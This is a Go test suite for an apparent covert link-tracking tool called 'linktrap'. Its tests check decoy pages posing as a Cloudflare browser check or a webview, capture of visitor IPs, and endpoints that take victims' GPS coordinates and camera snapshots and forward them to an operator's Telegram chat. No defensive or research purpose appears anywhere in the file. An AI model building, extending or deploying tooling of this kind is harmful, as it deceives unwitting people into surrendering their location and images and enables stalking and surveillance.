package api_test

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/gin-gonic/gin"
	tgbotapi "github.com/go-telegram-bot-api/telegram-bot-api/v5"

	"github.com/nwatteau/linktrap/internal/api"
	"github.com/nwatteau/linktrap/internal/models"
	"github.com/nwatteau/linktrap/internal/services"
)

const (
	testAbout    = "https://about.example"
	urlToken9ix  = "aHR0cHM6Ly9leGFtcGxlLmNvbQ==" // "https://example.com"
	testVisitorA = "203.0.113.9"
)

// fakeSender records outbound bot traffic instead of hitting Telegram.
type fakeSender struct {
	mu       sync.Mutex
	sent     []tgbotapi.Chattable
	failSend bool
}

func (f *fakeSender) Send(c tgbotapi.Chattable) (tgbotapi.Message, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.failSend {
		return tgbotapi.Message{}, errors.New("transport down")
	}
	f.sent = append(f.sent, c)
	return tgbotapi.Message{MessageID: len(f.sent)}, nil
}

func (f *fakeSender) Request(c tgbotapi.Chattable) (*tgbotapi.APIResponse, error) {
	if f.failSend {
		return nil, errors.New("transport down")
	}
	return &tgbotapi.APIResponse{Ok: true}, nil
}

func newTestRouter(fake *fakeSender, events chan models.VisitEvent) *gin.Engine {
	gin.SetMode(gin.TestMode)
	router := gin.New()
	links := services.NewLinkService("http://host", false, nil)
	api.SetupRoutes(router, api.NewHandlers(fake, links, testAbout, events))
	return router
}

func doRequest(t *testing.T, router *gin.Engine, method, target string, body []byte, header map[string]string) *httptest.ResponseRecorder {
	t.Helper()
	req, err := http.NewRequest(method, target, bytes.NewReader(body))
	if err != nil {
		t.Fatalf("%s %s: %v", method, target, err)
	}
	if body != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	for k, v := range header {
		req.Header.Set(k, v)
	}
	w := httptest.NewRecorder()
	router.ServeHTTP(w, req)
	return w
}

func TestTracking_RendersDecoyPage(t *testing.T) {
	events := make(chan models.VisitEvent, 1)
	router := newTestRouter(&fakeSender{}, events)

	w := doRequest(t, router, http.MethodGet, "/c/9ix/"+urlToken9ix, nil,
		map[string]string{"X-Forwarded-For": testVisitorA})

	if w.Code != http.StatusOK {
		t.Fatalf("status = %d, body = %s", w.Code, w.Body.String())
	}
	body := w.Body.String()
	for _, want := range []string{"example.com", "9ix", testVisitorA, "Checking your browser"} {
		if !strings.Contains(body, want) {
			t.Errorf("rendered page missing %q", want)
		}
	}

	select {
	case ev := <-events:
		if ev.OperatorID != 12345 || ev.IP != testVisitorA || ev.Variant != "cloudflare" {
			t.Errorf("unexpected visit event: %+v", ev)
		}
	default:
		t.Error("no visit event queued")
	}
}

func TestTracking_WebviewVariant(t *testing.T) {
	router := newTestRouter(&fakeSender{}, nil)

	w := doRequest(t, router, http.MethodGet, "/w/9ix/"+urlToken9ix, nil, nil)
	if w.Code != http.StatusOK {
		t.Fatalf("status = %d", w.Code)
	}
	body := w.Body.String()
	if !strings.Contains(body, "iframe") || !strings.Contains(body, "example.com") {
		t.Errorf("webview page missing embed: %s", body)
	}
}

func TestTracking_MissingTokenRedirects(t *testing.T) {
	router := newTestRouter(&fakeSender{}, nil)

	for _, target := range []string{"/c", "/c/9ix", "/w", "/w/9ix"} {
		w := doRequest(t, router, http.MethodGet, target, nil, nil)
		if w.Code != http.StatusFound {
			t.Errorf("%s: status = %d, want 302", target, w.Code)
		}
		if loc := w.Header().Get("Location"); loc != testAbout {
			t.Errorf("%s: Location = %q, want %q", target, loc, testAbout)
		}
	}
}

func TestTracking_InvalidURLTokenIs400(t *testing.T) {
	router := newTestRouter(&fakeSender{}, nil)

	w := doRequest(t, router, http.MethodGet, "/c/9ix/not-base64!", nil, nil)
	if w.Code != http.StatusBadRequest {
		t.Fatalf("status = %d, want 400", w.Code)
	}
}

func TestProbe_ReturnsResolvedIP(t *testing.T) {
	router := newTestRouter(&fakeSender{}, nil)

	w := doRequest(t, router, http.MethodGet, "/", nil,
		map[string]string{"X-Forwarded-For": "1.2.3.4, 5.6.7.8"})

	if w.Code != http.StatusOK {
		t.Fatalf("status = %d", w.Code)
	}
	var out struct {
		IP string `json:"ip"`
	}
	if err := json.Unmarshal(w.Body.Bytes(), &out); err != nil {
		t.Fatalf("unmarshal: %v", err)
	}
	if out.IP != "1.2.3.4" {
		t.Errorf("ip = %q, want first forwarded-for entry", out.IP)
	}
}

func TestLocation_HappyPath(t *testing.T) {
	fake := &fakeSender{}
	router := newTestRouter(fake, nil)

	body, _ := json.Marshal(map[string]any{"lat": 1, "lon": 2, "uid": "9ix", "acc": 5})
	w := doRequest(t, router, http.MethodPost, "/location", body, nil)

	if w.Code != http.StatusOK || w.Body.String() != "OK" {
		t.Fatalf("status = %d, body = %q", w.Code, w.Body.String())
	}

	if len(fake.sent) != 2 {
		t.Fatalf("sent %d payloads, want location + summary", len(fake.sent))
	}
	loc, ok := fake.sent[0].(tgbotapi.LocationConfig)
	if !ok {
		t.Fatalf("first payload is %T, want LocationConfig", fake.sent[0])
	}
	if loc.ChatID != 12345 || loc.Latitude != 1 || loc.Longitude != 2 {
		t.Errorf("unexpected location payload: %+v", loc)
	}
	msg, ok := fake.sent[1].(tgbotapi.MessageConfig)
	if !ok {
		t.Fatalf("second payload is %T, want MessageConfig", fake.sent[1])
	}
	if msg.ChatID != 12345 || !strings.Contains(msg.Text, "maps") {
		t.Errorf("unexpected summary payload: %+v", msg)
	}
}

func TestLocation_MissingParameter(t *testing.T) {
	fake := &fakeSender{}
	router := newTestRouter(fake, nil)

	body, _ := json.Marshal(map[string]any{"lat": 1, "lon": 2, "uid": "9ix"})
	w := doRequest(t, router, http.MethodPost, "/location", body, nil)

	if w.Code != http.StatusBadRequest {
		t.Fatalf("status = %d, want 400", w.Code)
	}
	if !strings.Contains(w.Body.String(), "Missing parameters") {
		t.Errorf("body = %q", w.Body.String())
	}
	if len(fake.sent) != 0 {
		t.Errorf("nothing should be sent on a 400, got %d", len(fake.sent))
	}
}

func TestLocation_BadUIDIs500(t *testing.T) {
	router := newTestRouter(&fakeSender{}, nil)

	body, _ := json.Marshal(map[string]any{"lat": 1, "lon": 2, "uid": "!!", "acc": 5})
	w := doRequest(t, router, http.MethodPost, "/location", body, nil)

	if w.Code != http.StatusInternalServerError {
		t.Fatalf("status = %d, want 500", w.Code)
	}
	if !strings.Contains(w.Body.String(), "Failed to process location") {
		t.Errorf("body = %q", w.Body.String())
	}
}

func TestLocation_SendFailureIs500(t *testing.T) {
	router := newTestRouter(&fakeSender{failSend: true}, nil)

	body, _ := json.Marshal(map[string]any{"lat": 1, "lon": 2, "uid": "9ix", "acc": 5})
	w := doRequest(t, router, http.MethodPost, "/location", body, nil)

	if w.Code != http.StatusInternalServerError {
		t.Fatalf("status = %d, want 500", w.Code)
	}
}

func TestCamSnap_HappyPath(t *testing.T) {
	fake := &fakeSender{}
	router := newTestRouter(fake, nil)

	img := []byte{0x89, 'P', 'N', 'G'}
	body, _ := json.Marshal(map[string]any{"uid": "9ix", "img": base64.StdEncoding.EncodeToString(img)})
	w := doRequest(t, router, http.MethodPost, "/camsnap", body, nil)

	if w.Code != http.StatusOK || w.Body.String() != "OK" {
		t.Fatalf("status = %d, body = %q", w.Code, w.Body.String())
	}

	if len(fake.sent) != 1 {
		t.Fatalf("sent %d payloads, want 1 photo", len(fake.sent))
	}
	photo, ok := fake.sent[0].(tgbotapi.PhotoConfig)
	if !ok {
		t.Fatalf("payload is %T, want PhotoConfig", fake.sent[0])
	}
	if photo.ChatID != 12345 {
		t.Errorf("photo chat = %d, want 12345", photo.ChatID)
	}
	fb, ok := photo.File.(tgbotapi.FileBytes)
	if !ok {
		t.Fatalf("photo file is %T, want FileBytes", photo.File)
	}
	if fb.Name != "snapshot.png" || !bytes.Equal(fb.Bytes, img) {
		t.Errorf("unexpected attachment: name=%q len=%d", fb.Name, len(fb.Bytes))
	}
}

func TestCamSnap_MissingParameter(t *testing.T) {
	router := newTestRouter(&fakeSender{}, nil)

	body, _ := json.Marshal(map[string]any{"uid": "9ix"})
	w := doRequest(t, router, http.MethodPost, "/camsnap", body, nil)

	if w.Code != http.StatusBadRequest {
		t.Fatalf("status = %d, want 400", w.Code)
	}
}

func TestCamSnap_BadImageIs500(t *testing.T) {
	router := newTestRouter(&fakeSender{}, nil)

	body, _ := json.Marshal(map[string]any{"uid": "9ix", "img": "not-base64!"})
	w := doRequest(t, router, http.MethodPost, "/camsnap", body, nil)

	if w.Code != http.StatusInternalServerError {
		t.Fatalf("status = %d, want 500", w.Code)
	}
	if !strings.Contains(w.Body.String(), "Failed to process image") {
		t.Errorf("body = %q", w.Body.String())
	}
}
